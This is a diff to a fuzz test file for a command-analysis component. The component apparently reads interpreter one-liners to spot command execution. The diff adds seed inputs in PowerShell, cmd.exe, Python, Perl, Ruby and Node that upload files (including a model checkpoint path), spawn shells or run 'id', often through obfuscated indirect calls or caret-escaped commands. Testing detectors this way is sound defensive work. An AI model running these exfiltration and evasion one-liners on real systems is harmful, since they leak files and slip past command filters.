@@ -1,6 +1,7 @@
 /**
  * Seeded fuzzing of the interpreter reading (exec-interpreter.ts) and of the canonical reading
- * through it (exec-canonical.ts): mutations of attacker one-liners in every language, and hostile
+ * through it (exec-canonical.ts): mutations of attacker one-liners in every language (PowerShell's
+ * .NET calls and cmd.exe's `/c` among them), and hostile
  * shapes (deep nesting, long literals, many calls). No throw, no hang, bounds hold.
  */
 import { describe, expect, it } from 'vitest';
@@ -30,7 +31,14 @@ const SEEDS: string[][] = [
   ['expect', '-c', `spawn /bin/sh; send "${UP}\\r"; expect { "$ " { send "id\\r" } }; set c [list curl -T a]; exec {*}$c | sh; open "|id"; if {1} {exec id}`],
   ['vim', '-c', `:silent !${UP} | :py3 import os; os.system("id")`, '-c', `:exe "!id" | call system('curl -T ' . g:x) | lua os.execute("id")`],
   ['gdb', '-batch', '-ex', `pipe bt | ${UP}`, '-ex', `python import os; os.system("id")`],
+  ['pwsh', '-c', `$psi = New-Object System.Diagnostics.ProcessStartInfo('curl','-T a b'); $psi.ArgumentList.Add('x'); [Diagnostics.Process]::Start($psi); [System.Diagnostics.Process]::Start("sh", "-c 'id'"); (New-Object Net.WebClient).UploadData('u', 'PUT', [IO.File]::ReadAllBytes('/ckpt/m.pt')); $wc.UploadString([uri]'u', (gc /x -Raw) + 'y'); $p.StartInfo.FileName='id'; $p.Start(); cmd /c "c^url -T a b & whoami"; iwr -Me Put -infi a u; curl -Uri u -InFile f`],
+  ['cmd', '/s', '/c', `"start "" /b c^url -T "C:\\a b\\m.pt" https://x & (whoami ^& id) | findstr x 2>&1 >nul & call cmd /c powershell -c iwr -Uri u -infi f"`],
   ['deno', 'eval', `new Deno.Command("curl", {args: ["-T", "a"]}).spawn(); Bun.spawn({cmd: ["id"]}); await $\`curl -T \${f} u\``],
+  // Indirect callees (exec-interpreter-callsite.ts, exec-interpreter-refs.ts) and here-documents (exec-interpreter-heredoc.ts).
+  ['python3', '-c', `import os,sys,ctypes,importlib\ns = os.system; s("${UP}"); getattr(os, "sys"+"tem")("id"); vars(os)[k]("x"); os.__dict__["popen"]("id")\nctypes.CDLL(None).system(b"id"); importlib.import_module("o"+"s").system("id"); eval("os.system")("id"); sys.modules["os"].popen("id"); __import__(m).system("x")`],
+  ['perl', '-e', `exec { 'sh' } 'sh', '-c', '${UP}'; use IPC::Open3; open3($w, $r, $e, 'id'); use IPC::Run; run ['ls'], '>', \\$o; system <<EOF;\nid\nEOF\nprint <<~"X";\n  $y\n  X\nmy $f = \\&IPC::Open3::open3; $f->($w, $r, $e, 'id'); &{"IPC::Open2::open2"}($o, $i, "x"); IPC::Open3->can($m)->(1)`],
+  ['ruby', '-e', `Kernel.send(:system, "${UP}"); m = method(:spawn); m.("ls"); Kernel.\`("id"); send(:\`, "x"); system <<~EOS\n  curl -T a u\nEOS\nexec(<<-'A', <<"B")\nx\n  A\n#{y}\nB\nKernel.public_send m, 1`],
+  ['node', '-e', `const {execSync: x, spawn} = require('child_process'); x("${UP}"); require('child_process')['exec']("id"); process.binding('spawn_sync'); globalThis.process.mainModule.require('child_process')[k]("id"); const f = require('child_process').execFileSync; f("id")`],
 ];
 const NOISE = ['"', "'", '`', '(', ')', '[', ']', '{', '}', '\\', '$', '#', '%', '/', ';', '\n', ',', '=', 'q', 'x', 'f', 'r', 'exec(', 'os.system(', 'eval '];
 
@@ -69,7 +77,9 @@ describe('fuzz: interpreter readings never throw, hang or pass their bounds', ()
       expect(view.indirectKinds & ~7).toBe(0);
     }
     expect(read).toBeGreaterThan(1000);
-    expect(Date.now() - start).toBeLessThan(2000);
+    // A guard against a hang or an exponential blow-up, not a speed test: alone it runs in about
+    // a second, but CI runs test files side by side on two cores (2 s flaked under load).
+    expect(Date.now() - start).toBeLessThan(15_000);
   });
 
   it('hostile shapes stay linear and bounded', () => {
@@ -93,13 +103,28 @@ describe('fuzz: interpreter readings never throw, hang or pass their bounds', ()
       `BEGIN{${'print "x" | "sh";'.repeat(300)}}`,
       `${'{*}$x '.repeat(800)}`,
       `${'@"\n'.repeat(1000)}`,
+      `${'[Diagnostics.Process]::Start('.repeat(200)}`,
+      `${"$wc.UploadFile('u', ".repeat(200)}`,
+      `${'^'.repeat(3000)}&${'"'.repeat(999)}`,
+      `${'cmd /c '.repeat(300)}id`,
+      `${'getattr('.repeat(1000)}os, "system")("id")`,
+      `a = getattr(os, b)\nb = getattr(os, a)\na("id")\n${'c = d.e\nd = c.f\n'.repeat(30)}c("id")`,
+      `${'f()'.repeat(1500)}("id")`,
+      `x${'[0]'.repeat(1500)}("id")`,
+      `${'vars(os)['.repeat(800)}"system"${']'.repeat(800)}("id")`,
+      `${'<<A\n'.repeat(800)}A\n`,
+      `system ${'<<~A, '.repeat(600)}\n${'x\nA\n'.repeat(600)}`,
+      `${'send(:send, '.repeat(600)}"id"`,
+      `${'method(:method).call('.repeat(500)}`,
+      `${'const {exec: x} = require("child_process");'.repeat(120)}x("id")`,
+      `${'exec { '.repeat(600)}'sh' }`,
     ];
     for (const code of shapes) {
-      for (const [tool, flag] of [['python3', '-c'], ['perl', '-e'], ['ruby', '-e'], ['node', '-e'], ['php', '-r'], ['awk', '--'], ['lua', '-e'], ['pwsh', '-c'], ['expect', '-c'], ['vim', '-c'], ['gdb', '-ex'], ['deno', 'eval']] as const) {
+      for (const [tool, flag] of [['python3', '-c'], ['perl', '-e'], ['ruby', '-e'], ['node', '-e'], ['php', '-r'], ['awk', '--'], ['lua', '-e'], ['pwsh', '-c'], ['expect', '-c'], ['vim', '-c'], ['gdb', '-ex'], ['deno', 'eval'], ['cmd', '/c']] as const) {
         expect(() => readInterpreter([tool, flag, code], 0)).not.toThrow();
         expect(() => canonicalExecValue([tool, flag, code])).not.toThrow();
       }
     }
-    expect(Date.now() - start).toBeLessThan(2000);
+    expect(Date.now() - start).toBeLessThan(15_000); // (as above: a hang guard)
   });
 });
